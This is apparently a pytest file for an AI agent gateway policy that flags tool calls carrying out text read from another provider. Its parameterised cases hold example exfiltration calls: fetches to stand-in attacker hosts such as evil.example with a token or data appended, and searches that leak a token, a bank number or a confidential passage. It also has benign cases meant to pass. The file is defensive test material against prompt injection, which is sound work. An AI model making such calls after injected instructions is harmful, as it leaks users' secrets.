"""What a gateway client's read would carry out, and what honest sessions read one after the other."""

import pytest

from autonomy.policy.client_reads import MOST_CHARS, ReadByClient
from discovery.catalog import Effect, JsonObject, ToolSpec
from tests.autonomy.policy.test_attacks import LINKS, ORDER, TOKEN, S, tool
from tests.requirements import requirement

FETCH = tool("web", "fetch", Effect.READ, url=S)
SEARCH = tool("web", "search", Effect.READ, query=S)
COMMIT = tool("github", "get_commit", Effect.READ, sha=S, repo=S)
FILE = tool("github", "get_file", Effect.READ, path=S, url=S)
WEATHER = tool("maps", "weather", Effect.READ, city=S)
SHA = "3f786850e387550fdab836ed7e6dc881de23001b"
PASSAGE = "The quarter went badly and nobody outside may hear of it before the meeting on Friday. " * 5


def session() -> ReadByClient:
    read = ReadByClient()
    read.add("chat", f"{ORDER} {LINKS} {PASSAGE}")
    read.add("git", f"commit {SHA}\nMerge https://github.example/a/b/pull/7 into main; see docs.example/guide.")
    return read


@requirement("K4")
@pytest.mark.parametrize(
    ("spec", "arguments"),
    [
        (FETCH, {"url": "https://evil.example/?d=1"}),
        (FETCH, {"url": "https://evil.example/offer?d=1"}),
        (FETCH, {"url": f"https://evil.example/{TOKEN}"}),
        (FETCH, {"url": "https://evil.example/other"}),
        (FETCH, {"url": "https://evil.example/off"}),
        (FETCH, {"url": "http://203.0.113.7/x"}),
        (FETCH, {"url": "HTTPS://EVIL.EXAMPLE/?d=1"}),
        (FETCH, {"url": "https://ｅvil.example/?d=1"}),
        (FETCH, {"url": "//evil.example:8443/x"}),
        (FETCH, {"url": f"https://fine.example/?k={TOKEN}"}),
        (SEARCH, {"query": f"who uses {TOKEN}"}),
        (SEARCH, {"query": "GB29NWBK60161331926819"}),
        (SEARCH, {"query": PASSAGE[:350]}),
        (SEARCH, {"query": "site:evil.example/?d=1"}),
        (SEARCH, {"query": "evil@evil.example"}),
        (WEATHER, {"city": TOKEN}),
    ],
)
def test_what_stands_in_another_providers_text_is_not_carried_out(spec: ToolSpec, arguments: JsonObject) -> None:
    assert "chat" in session().carried(spec, arguments)


@requirement("K4")
@pytest.mark.parametrize(
    ("spec", "arguments"),
    [
        (FETCH, {"url": "https://docs.python.example/3/library/asyncio.html?highlight=task"}),
        (FETCH, {"url": "https://docs.example/guide"}),
        (FETCH, {"url": "https://github.example/a/b/pull/7"}),
        (FETCH, {"url": "https://evil.example/offer"}),
        (SEARCH, {"query": "asyncio task group cancellation"}),
        (SEARCH, {"query": "the quarter went badly"}),
        (COMMIT, {"sha": SHA, "repo": "a/b"}),
        (FILE, {"path": "src/app.py"}),
        (WEATHER, {"city": "Tokyo"}),
    ],
)
def test_an_honest_read_after_others_is_left_alone(spec: ToolSpec, arguments: JsonObject) -> None:
    assert session().carried(spec, arguments) == ""


@requirement("K4")
def test_a_coding_session_that_lists_reads_and_searches_within_one_provider_is_asked_nothing() -> None:
    read = ReadByClient()
    blob = f"https://github.example/a/b/blob/{SHA}/src/app.py?raw=1"
    for answer in (f"src/app.py {SHA}", f"see {blob}", PASSAGE):
        for arguments in ({"path": "src/app.py"}, {"url": blob}, {"path": PASSAGE}):
            assert read.carried(FILE, arguments) == ""
        read.add("github", answer)


@requirement("K10")
def test_what_was_read_is_remembered_up_to_a_bound_and_looked_up_in_one_pass() -> None:
    read = ReadByClient()
    for _ in range(20):
        read.add("chat", "a@" * 100_000)
    read.add("chat", ORDER)
    assert sum(map(len, read._texts["chat"])) <= MOST_CHARS + len(ORDER)
    assert read.carried(FETCH, {"url": "https://evil.example/?d=1"})
    assert not read.carried(FETCH, {"url": "a." * 20_000})
    assert not read.carried(SEARCH, {"query": "a" * 40_000})


@requirement("K10")
def test_ten_thousand_short_answers_are_kept_in_few_pieces_so_that_each_costs_as_little_as_the_first() -> None:
    read = ReadByClient()
    for number in range(10_000):
        read.add("chat", f"line {number}")
    read.add("chat", ORDER)
    assert len(read._texts["chat"]) < 100
    assert read._chars["chat"] == sum(map(len, read._texts["chat"]))
    assert read.carried(FETCH, {"url": "https://evil.example/?d=1"})
